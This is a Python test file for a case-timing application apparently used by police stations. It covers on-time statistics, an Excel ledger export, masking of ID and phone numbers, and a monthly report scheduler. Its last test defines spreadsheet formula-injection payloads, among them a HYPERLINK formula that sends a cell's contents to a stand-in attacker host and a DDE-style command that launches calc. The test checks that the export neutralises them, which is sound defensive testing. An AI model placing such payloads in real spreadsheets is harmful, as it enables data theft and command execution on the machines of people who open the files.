"""Statistics (on-time rate, overdue, working days per step), the ledger workbook and the monthly report."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from caseflow.scheduler import Scheduler
from caseflow.stats import StatsError, case_summary, compute_stats, ledger_rows, limit_text, write_ledger
from caseflow.store import Store
from test_scheduler import EAST, UNIT, _ops_cli, add_case, add_timer, bj, fresh_store, outbox_of, rec_config

HOURS = {"amount": 24, "unit": "hours"}


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """A fresh SQLite store with people and workflow versions."""
    yield from fresh_store(tmp_path)


@pytest.fixture
def october(store: Store) -> dict[str, int]:
    """Timers finished in October 2026 (National Day 10-01..10-07, make-up Saturday 10-10)."""
    ids = {}
    ids["c1"] = add_case(store, responsible="zhang", opened_at=bj(2026, 10, 9, 9),
                         data={"applicant": "王五", "phone": "13812345678"})
    # 10-09 (Fri) → 10-14 (Wed): 10-10 (调休), 12, 13, 14 = 4 working days; due 10-15 00:00: on time.
    add_timer(store, ids["c1"], name="核查", started_at=bj(2026, 10, 9, 9), stopped_at=bj(2026, 10, 14, 10),
              due_at=bj(2026, 10, 15), status="met")
    ids["c2"] = add_case(store, responsible="zhang", opened_at=bj(2026, 10, 12, 9),
                         data={"title": f"身份证 110101199003071234 办理{'很长的说明' * 20}"})
    # 10-12 → 10-23: 9 working days, less 2 paused for the applicant (补正, 10-14 and 10-15) = 7; the
    # unit's own pause (10-19..10-20) is charged. Finished after its due instant: late.
    add_timer(store, ids["c2"], name="审批", started_at=bj(2026, 10, 12, 9), stopped_at=bj(2026, 10, 23, 16),
              due_at=bj(2026, 10, 16), status="breached", pauses=[
                  {"reason": "补正", "from": "2026-10-13T09:00:00+08:00", "to": "2026-10-15T09:00:00+08:00",
                   "charged_to": "applicant"},
                  {"reason": "内部协调", "from": "2026-10-19T09:00:00+08:00", "to": "2026-10-20T09:00:00+08:00",
                   "charged_to": "unit"}])
    ids["c3"] = add_case(store, responsible="li", opened_at=bj(2026, 10, 20, 9), closed_at=bj(2026, 10, 21, 11))
    add_timer(store, ids["c3"], name="核查", started_at=bj(2026, 10, 20, 9), stopped_at=bj(2026, 10, 21, 10),
              due_at=bj(2026, 10, 23), status="met")
    ids["c4"] = add_case(store, responsible="chen", unit=EAST, workflow="detention", opened_at=bj(2026, 10, 20, 10))
    add_timer(store, ids["c4"], name="送看守所羁押", limit=HOURS, started_at=bj(2026, 10, 20, 10),
              stopped_at=bj(2026, 10, 21, 8), due_at=bj(2026, 10, 21, 10), status="met")
    # Finished in November; cancelled; and one still running past due since October.
    add_timer(store, ids["c1"], name="十一月", started_at=bj(2026, 10, 29, 9), stopped_at=bj(2026, 11, 2, 10),
              due_at=bj(2026, 11, 5), status="met")
    add_timer(store, ids["c1"], name="撤回", started_at=bj(2026, 10, 12, 9), stopped_at=bj(2026, 10, 13, 10),
              due_at=bj(2026, 11, 5), status="stopped")
    ids["c5"] = add_case(store, responsible="zhang", opened_at=bj(2026, 10, 22, 9))
    add_timer(store, ids["c5"], name="超期未办", started_at=bj(2026, 10, 22, 9), due_at=bj(2026, 10, 28))
    # A case of another month entirely (opened and closed in September) stays out of October's ledger.
    ids["old"] = add_case(store, opened_at=bj(2026, 9, 1, 9), closed_at=bj(2026, 9, 3, 9))
    return ids


def test_stats_by_unit(store: Store, october: dict[str, int]) -> None:
    groups = {g.key: g.to_dict() for g in compute_stats(store, month="2026-10", by="unit")}
    assert groups[UNIT] == {"key": UNIT, "finished": 3, "on_time": 2, "late": 1, "open_overdue": 1, "overdue": 2,
                            "on_time_rate": 0.6667, "avg_working_days": 4.0, "avg_hours": groups[UNIT]["avg_hours"],
                            "excluded_days": 2}
    assert groups[EAST]["finished"] == 1 and groups[EAST]["on_time_rate"] == 1.0
    assert groups[EAST]["avg_working_days"] == 1.0 and groups[EAST]["avg_hours"] == 22.0


def test_stats_by_person_workflow_and_month(store: Store, october: dict[str, int]) -> None:
    person = {g.key: g for g in compute_stats(store, month="2026-10", by="person")}
    assert (person["zhang"].finished, person["zhang"].on_time, person["zhang"].avg_working_days) == (2, 1, 5.5)
    assert person["li"].on_time_rate == 1.0 and person["zhang"].open_overdue == 1
    workflow = {g.key: g.finished for g in compute_stats(store, month="2026-10", by="workflow")}
    assert workflow == {"hukou": 3, "detention": 1}
    months = {g.key: g.finished for g in compute_stats(store, by="month")}
    assert months == {"2026-10": 4, "2026-11": 1}
    only_east = compute_stats(store, month="2026-10", by="unit", units=[EAST])
    assert [g.key for g in only_east] == [EAST]
    with pytest.raises(StatsError, match="2026-10"):
        compute_stats(store, month="October", by="unit")
    with pytest.raises(StatsError, match="cannot group by"):
        compute_stats(store, month="2026-10", by="weather")


def test_ledger_rows_and_workbook(store: Store, october: dict[str, int], tmp_path: Path) -> None:
    rows = ledger_rows(store, UNIT, "2026-10")
    assert [r["案件编号"] for r in rows] == [october["c1"], october["c2"], october["c3"], october["c5"]]
    by_id = {r["案件编号"]: r for r in rows}
    assert by_id[october["c2"]]["是否超期"] == "是" and by_id[october["c1"]]["是否超期"] == "否"
    assert by_id[october["c5"]]["是否超期"] == "是"  # still running past due at the end of October
    assert by_id[october["c2"]]["不计入时限的暂停(工作日)"] == 2
    assert by_id[october["c1"]]["承办人"] == "张警官" and by_id[october["c1"]]["分管领导"] == "王所长"
    assert by_id[october["c3"]]["办结时间"] == "2026-10-21 11:00"
    # One way to write a day limit (issue 10): it ends at 24:00 of its last day, with the weekday.
    assert "核查 3个工作日 → 期满 2026-10-14（周三）24:00（按期完成）" in by_id[october["c1"]]["时限明细"]
    assert "13812345678" not in json.dumps(rows, ensure_ascii=False)
    assert "*******5678" in by_id[october["c1"]]["案情摘要"]

    path = write_ledger(rows, tmp_path / "out" / "ledger.xlsx", unit=UNIT, month="2026-10")
    sheet = load_workbook(path).active
    assert sheet is not None
    assert sheet["A1"].value == f"{UNIT} 办理时限台账 2026-10"
    header = [c.value for c in sheet[2]]
    assert header[:4] == ["序号", "案件编号", "程序", "当前状态"]
    data = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    assert len(data) == 4 and data[1][1] == october["c2"] and data[1][header.index("是否超期")] == "是"


def test_case_summary_and_limit_text() -> None:
    assert case_summary(json.dumps({"title": "迁入 身份证110101199003071234"})) == "迁入 身份证**************1234"
    assert case_summary(json.dumps({"x": "a" * 100}), limit=20).endswith("…")
    assert case_summary("not json") == ""
    assert limit_text(json.dumps({"amount": 24, "unit": "hours"})) == "24小时"
    assert limit_text(json.dumps("20 working_days")) == "20个工作日"


def test_cli_stats_and_ledger(store: Store, october: dict[str, int], tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(_ops_cli(), ["stats", "--month", "2026-10", "--by", "unit", "--db", store.url, "--json"])
    assert result.exit_code == 0, result.output
    payload: list[dict[str, Any]] = json.loads(result.output)
    assert [g["key"] for g in payload] == sorted([UNIT, EAST])
    text = runner.invoke(_ops_cli(), ["stats", "--month", "2026-10", "--by", "person", "--db", store.url])
    # People by name, not by id (issue 10).
    assert "张警官" in text.output and "50.0%" in text.output and "zhang" not in text.output
    bad = runner.invoke(_ops_cli(), ["stats", "--month", "10/2026", "--db", store.url, "--json"])
    assert bad.exit_code == 1 and "2026-10" in json.loads(bad.output)["error"]["message"]

    out = tmp_path / "台账.xlsx"
    result = runner.invoke(_ops_cli(), ["report", "ledger", "--unit", UNIT, "--month", "2026-10", "--xlsx", str(out),
                                        "--db", store.url, "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {"file": str(out), "unit": UNIT, "month": "2026-10", "cases": 4}
    assert out.is_file()


def test_monthly_report_runs_once_on_the_first_working_day(store: Store, october: dict[str, int],
                                                           tmp_path: Path) -> None:
    scheduler = Scheduler(store, rec_config(report_dir=str(tmp_path / "reports")))
    # 2026-11-01 is a Sunday: the first working day of November is Monday 11-02.
    assert scheduler.report_trigger.get_next_fire_time(None, bj(2026, 10, 30)) == bj(2026, 11, 2, 9)
    written = scheduler.run_monthly_report(bj(2026, 11, 2, 9, 0, 5))
    assert sorted(p.name for p in written) == sorted([f"ledger_{UNIT}_2026-10.xlsx", f"ledger_{EAST}_2026-10.xlsx"])
    assert all(p.is_file() for p in written)
    reports = [o for o in outbox_of(store) if o.kind == "report"]
    assert {o.recipient for o in reports} == {f"unit:{UNIT}", f"unit:{EAST}"}
    assert any("按时办结率 66.7%" in o.body for o in reports)
    # Another process (or a restart) in the same slot does nothing.
    assert Scheduler(store, rec_config(report_dir=str(tmp_path / "reports"))).run_monthly_report(
        bj(2026, 11, 2, 10)) == []


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "leader": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "+1+cmd",
    "title": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_the_ledger_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    """Names, units and case data typed by anyone never become live formulas in the leader's 台账 (issue 9)."""
    from datetime import datetime

    from caseflow.calendar import ZONE
    from caseflow.clock import FixedClock
    from caseflow.engine import Engine

    store = Store(f"sqlite:///{tmp_path / 'c.db'}")
    engine = Engine(store, clock=FixedClock(datetime(2026, 10, 9, 9, tzinfo=ZONE)))
    engine.add_person("l1", name=HOSTILE["leader"], unit=HOSTILE["unit"], roles=["station_leader"])
    engine.add_person("p1", name=HOSTILE["name"], unit=HOSTILE["unit"], roles=["household_police"], leader="l1")
    engine.open("hukou_transfer", actor="p1", data={"title": HOSTILE["title"], "a": HOSTILE["tab"],
                                                     "b": HOSTILE["cr"]})
    rows = ledger_rows(store, HOSTILE["unit"], "2026-10")
    assert len(rows) == 1
    path = write_ledger(rows, tmp_path / "ledger.xlsx", unit=HOSTILE["unit"], month="2026-10")
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value: c for c in cells}
    for text in (HOSTILE["name"], HOSTILE["leader"], HOSTILE["unit"]):
        assert values[text].data_type == "s" and values[text].quotePrefix
    assert sheet["A1"].value.startswith(HOSTILE["unit"]) and sheet["A1"].quotePrefix
    summary = next(c for c in cells if isinstance(c.value, str) and "-2+3" in c.value)
    assert summary.data_type == "s"
    # numbers stay numbers; ordinary text is not quote-prefixed
    assert isinstance(sheet["A3"].value, int) and not sheet["A3"].quotePrefix
    assert not sheet["A2"].quotePrefix
    store.dispose()
